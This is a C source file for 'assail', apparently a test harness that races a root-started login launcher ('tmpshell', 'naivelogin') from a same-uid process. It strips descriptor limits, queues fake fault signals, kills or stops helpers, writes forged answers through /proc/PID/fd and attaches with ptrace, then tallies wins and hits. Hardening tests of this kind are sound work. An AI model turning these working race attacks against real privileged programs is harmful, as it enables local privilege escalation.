// assail starts logins as root would, one after the other, and attacks each from a
// process of the same user's, that has nothing but its uid in common with it:
//
//	assail KIND RT UID HITS MOST WINDOW WON PROGRAM [ARG…]
//
// until HITS logins have shown WINDOW (a text in what they say; a text "+" is that
// the attacker itself has seen its window), or at most MOST times. WON in what a
// login says is a success, and ends it. Before each login the script $BEFORE is run;
// $FORGED is what is written in the place of an answer. With RT 1 the attacker has real-time
// priority. It prints: logins, wins, hits, sessions, refused (125), died of a
// signal, other ends.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static struct shared {
	volatile pid_t pid;
	volatile long begun, ended, span; // logins; span is of one, in ns
	volatile int hit;
} *shm;

static unsigned uid;

static long now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000000L + t.tv_nsec;
}

static void spin(long ns)
{
	for (long end = now() + ns; now() < end;)
		;
}

static long below(long n) { return n > 0 ? lrand48() % n : 0; }

static void become(void)
{
	if (setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid))
		_exit(99);
}

// name is what /proc says of a process, empty where it is gone.
static const char *name(pid_t pid)
{
	static char text[32];
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
	close(fd);
	text[n > 0 ? n - 1 : 0] = 0;
	return text;
}

static int launcher(pid_t pid)
{
	const char *n = name(pid);
	return !strcmp(n, "tmpshell") || !strcmp(n, "tmpshell-sessio") || !strcmp(n, "naivelogin");
}

static int watch = -1;

// limit takes its descriptors away for a moment, soon after it has opened $WATCH.
static void limit(pid_t pid)
{
	struct rlimit was, none;
	char events[4096];
	if (watch < 0) {
		watch = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
		inotify_add_watch(watch, getenv("WATCH"), IN_OPEN);
	}
	while (read(watch, events, sizeof events) < 0 && shm->ended < shm->begun)
		;
	spin(below(shm->ended % 2 ? 100000 : 1000000));
	while (read(watch, events, sizeof events) > 0)
		;
	if (prlimit(pid, RLIMIT_NOFILE, NULL, &was))
		return;
	none = was;
	none.rlim_cur = 0;
	prlimit(pid, RLIMIT_NOFILE, &none, NULL);
	spin(5000 + below(shm->ended % 3 ? 100000 : 1000000));
	prlimit(pid, RLIMIT_NOFILE, &was, NULL);
}

// queue sends a signal that is not "from a user" as kill(2)'s is.
static void queue(pid_t pid)
{
	static const int list[] = {SIGFPE, SIGSEGV, SIGBUS, SIGFPE, SIGILL, SIGURG, SIGPROF};
	int sig = list[below(sizeof list / sizeof *list)];
	union sigval value = {.sival_int = 1};
	spin(below(shm->span));
	if (launcher(pid) && sigqueue(pid, sig, value) == 0 && launcher(pid))
		shm->hit = 1;
}

// child does something to those whom it asks: the next processes by their numbers.
static void child(pid_t pid, int kind)
{
	while (shm->ended < shm->begun) { // a real-time priority leaves it 95 % (sched(7))
		for (pid_t p = pid + 1; p < pid + 12; p++) {
			const char *n = name(p);
			int helper = !strcmp(n, "tmpshell-helper"), between = !strcmp(n, "tmpshell") || !strcmp(n, "tmpshell-sessio");
			if (!helper && !between && strcmp(n, "getent"))
				continue;
			if (kind == 'f') {
				char path[64];
				const char *forged = getenv("FORGED");
				kill(p, SIGSTOP);
				for (int fd = 0; fd < 5; fd++) {
					snprintf(path, sizeof path, "/proc/%d/fd/%d", p, fd);
					int to = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
					if (to >= 0 && fd == 1 && write(to, forged, strlen(forged)) > 0)
						shm->hit = 1;
					close(to);
				}
				kill(p, SIGCONT);
				shm->hit |= helper;
				if (!helper && !between)
					return;
				continue;
			}
			if (kill(p, SIGKILL) == 0)
				shm->hit |= helper || !between;
		}
	}
}

// stop stops the helper, if it is the user's still, for good.
static void stop(pid_t pid)
{
	while (shm->ended < shm->begun && !shm->hit)
		for (pid_t p = pid + 1; p < pid + 12; p++)
			if (!strcmp(name(p), "tmpshell-helper") && kill(p, SIGSTOP) == 0)
				shm->hit = 1;
}

// trace attaches to it. Whoever can do that takes a prctl(2) out of it.
static void trace(pid_t pid)
{
	while (shm->ended < shm->begun) {
		int is = launcher(pid);
		if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
			char line[256], path[64];
			is = is && launcher(pid);
			snprintf(path, sizeof path, "/proc/%d/status", pid);
			FILE *f = fopen(path, "re");
			while (f && fgets(line, sizeof line, f))
				if (!strcmp(line, "NoNewPrivs:\t0\n") && is)
					shm->hit = 2;
			if (f)
				fclose(f);
			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			waitpid(pid, NULL, __WALL);
			ptrace(PTRACE_DETACH, pid, 0, 0);
			return;
		}
		if (is && errno == EPERM && launcher(pid))
			shm->hit |= 1;
	}
}

static void attack(const char *kind)
{
	for (long seen = 0;; ) {
		while (shm->begun == seen) // at real-time priority nobody else has this processor
			if (getppid() == 1)
				_exit(0);
		seen = shm->begun;
		switch (*kind) {
		case 'l': limit(shm->pid); break;
		case 'q': queue(shm->pid); break;
		case 'k': case 'f': child(shm->pid, *kind); break;
		case 's': stop(shm->pid); break;
		case 'b': limit(shm->pid); child(shm->pid, 'f'); break;
		case 't': trace(shm->pid); break;
		}
	}
}

// login runs one to its end, and returns what it has said.
static int login(char **argv, char *said, size_t size, int attacked)
{
	int out[2], go[2], status;
	if (getenv("BEFORE") && system(getenv("BEFORE")))
		exit(1);
	if (pipe2(out, O_CLOEXEC) || pipe2(go, O_CLOEXEC))
		exit(1);
	pid_t pid = fork();
	if (pid == 0) {
		char c;
		struct sched_param p = {0};
		sched_setscheduler(0, SCHED_OTHER, &p);
		close(go[1]);
		read(go[0], &c, 1);
		dup2(open("/dev/null", O_RDONLY), 0);
		dup2(out[1], 1);
		dup2(out[1], 2);
		become();
		chdir("/");
		execv(argv[0], argv);
		_exit(99);
	}
	close(out[1]);
	close(go[0]);
	shm->pid = pid;
	shm->hit = 0;
	if (attacked)
		shm->begun++;
	close(go[1]);
	size_t n = 0;
	for (ssize_t got; n < size - 1 && (got = read(out[0], said + n, size - 1 - n)) > 0;)
		n += got;
	said[n] = 0;
	close(out[0]);
	waitpid(pid, &status, 0);
	shm->ended = shm->begun;
	return status;
}

int main(int argc, char **argv)
{
	if (argc < 9)
		return 2;
	const char *kind = argv[1], *window = argv[6], *won = argv[7];
	int rt = atoi(argv[2]), hits = atoi(argv[4]), most = atoi(argv[5]);
	uid = atoi(argv[3]);
	srand48(now());
	shm = mmap(NULL, sizeof *shm, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	char said[8192];
	for (int i = 0; i < 5; i++) {
		long begin = now();
		login(argv + 8, said, sizeof said, 0);
		if (i == 0 || now() - begin < shm->span)
			shm->span = now() - begin;
		if (strstr(said, won)) {
			fprintf(stderr, "won without an attack: %s\n", said);
			return 1;
		}
	}
	pid_t attacker = fork();
	if (attacker == 0) {
		struct sched_param p = {5};
		if (rt && sched_setscheduler(0, SCHED_FIFO, &p))
			return perror("sched_setscheduler"), 1;
		become();
		prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0); // as in a session that has it
		attack(kind);
	}
	int n = 0, wins = 0, hit = 0, ends[4] = {0};
	while (n < most && hit < hits && wins == 0) {
		int status = login(argv + 8, said, sizeof said, 1);
		n++;
		if (strstr(said, won) || shm->hit == 2) {
			wins++;
			fprintf(stderr, "%s", said);
		}
		hit += *window == '+' ? shm->hit == 1 : !strcmp(window, "signal") ? shm->hit == 1 && (WIFSIGNALED(status) || strstr(said, "internal error")) : strstr(said, window) != NULL;
		ends[WIFSIGNALED(status) ? 2 : WEXITSTATUS(status) == 0 ? 0 : WEXITSTATUS(status) == 125 ? 1 : 3]++;
	}
	kill(attacker, SIGKILL);
	printf("%d %d %d %d %d %d %d\n", n, wins, hit, ends[0], ends[1], ends[2], ends[3]);
	return 0;
}
